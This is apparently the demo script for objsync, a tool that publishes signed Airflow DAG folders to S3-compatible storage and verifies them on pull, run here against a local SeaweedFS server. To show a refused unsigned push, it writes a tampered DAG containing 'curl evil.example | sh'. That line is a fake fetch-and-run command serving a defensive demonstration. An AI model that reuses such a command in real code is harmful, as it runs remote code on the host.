"""The body of scripts/demo: start SeaweedFS, push examples/workflow signed, pull and verify it, promote it, pull again."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import boto3

from objsync.bench.seaweed import SeaweedFS

ROOT = Path(__file__).resolve().parent.parent
WORK = ROOT / ".demo"
CONFIG = """\
# Where each environment's DAGs live; CI runs `objsync push ENV` from this repo.
[environments.dev]
url = "s3://dags-dev/airflow/dags"

[environments.production]
url = "s3://dags-production/airflow/dags"
"""


def sh(*args: str, env: dict[str, str], cwd: Path = ROOT) -> None:
    print("$", " ".join(a if " " not in a else repr(a) for a in args), flush=True)
    subprocess.run(args, env=env, cwd=cwd, check=True)


def show(folder: Path) -> None:
    for path in sorted(folder.rglob("*")):
        rel = path.relative_to(folder)
        if rel.parts[0] != ".objsync" and path.is_file():
            print(f"  {rel}  ({path.stat().st_size} bytes)")


def main() -> int:
    shutil.rmtree(WORK, ignore_errors=True)
    WORK.mkdir()
    objsync = str(Path(sys.executable).parent / "objsync")
    with SeaweedFS(WORK / "seaweedfs") as server:
        env = dict(os.environ) | server.env()
        env.pop("AWS_PROFILE", None)
        print(f"SeaweedFS S3 is up at {server.endpoint_url}\n")
        s3 = boto3.client("s3", endpoint_url=server.endpoint_url, region_name="us-east-1",
                          aws_access_key_id=server.access_key, aws_secret_access_key=server.secret_key)
        for bucket in ("dags-dev", "dags-production"):
            s3.create_bucket(Bucket=bucket)

        repo = WORK / "example-repo"
        shutil.copytree(ROOT / "examples" / "workflow", repo / "workflow")
        (repo / "objsync.toml").write_text(CONFIG)
        key = WORK / "ci-signing.pem"
        print("CI's signing key (the private half is a CI secret; pullers get the .pub):")
        sh(objsync, "keygen", str(key), env=env)
        print("\nA DAG repository with a workflow/ folder and an objsync.toml; its CI step publishes it,")
        print("signed, with a pack so that a cold pull reads one object instead of one per file:")
        sh(objsync, "push", "dev", "--repo", "example-repo", "--sign-key", str(key), "--pack", env=env, cwd=repo)

        dags = WORK / "dags-dev"
        verify = ("--verify-key", f"{key}.pub")
        print("\nAn Airflow DAG folder pulls the whole prefix (every repo lands in its own folder), and takes")
        print("only versions signed by CI's key:")
        sh(objsync, "pull", "--once", "--json", *verify, "s3://dags-dev/airflow/dags", str(dags), env=env)
        show(dags)
        print("\nA second pass finds nothing to do (one stat per file, no downloads):")
        sh(objsync, "pull", "--once", "--json", *verify, "s3://dags-dev/airflow/dags", str(dags), env=env)

        print("\nSomeone with write access to the bucket, but not CI's key, publishes their own DAG. The pull")
        print("refuses that version (exit status 1) and the folder keeps the good files:")
        evil = WORK / "someone-else"
        shutil.copytree(repo, evil)
        (evil / "workflow" / "hello_dag.py").write_text("import os\nos.system('curl evil.example | sh')\n")
        sh(objsync, "push", "dev", "--repo", "example-repo", env=env, cwd=evil)
        run = subprocess.run([objsync, "pull", "--once", *verify, "s3://dags-dev/airflow/dags", str(dags)],
                             env=env, capture_output=True, text=True)
        print(f"$ objsync pull --once --verify-key … -> exit status {run.returncode}")
        print("  " + next((line for line in run.stderr.splitlines() if "refused" in line), run.stderr[-300:]))
        print(f"  example-repo/hello_dag.py still starts: {(dags / 'example-repo' / 'hello_dag.py').read_text()[:40]!r}")
        print("\nCI publishes again, signed; the pull follows:")
        sh(objsync, "push", "dev", "--repo", "example-repo", "--sign-key", str(key), "--pack", env=env, cwd=repo)
        sh(objsync, "pull", "--once", *verify, "s3://dags-dev/airflow/dags", str(dags), env=env)

        print("\nPromote exactly what dev runs to production (server-side copy; the signature and the pack")
        print("come along), then pull production:")
        sh(objsync, "promote", "dev", "production", "--repo", "example-repo", env=env, cwd=repo)
        prod = WORK / "dags-production"
        sh(objsync, "pull", "--once", *verify, "s3://dags-production/airflow/dags", str(prod), env=env)
        show(prod)
    print("\nSeaweedFS stopped. The demo's files are in .demo/")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
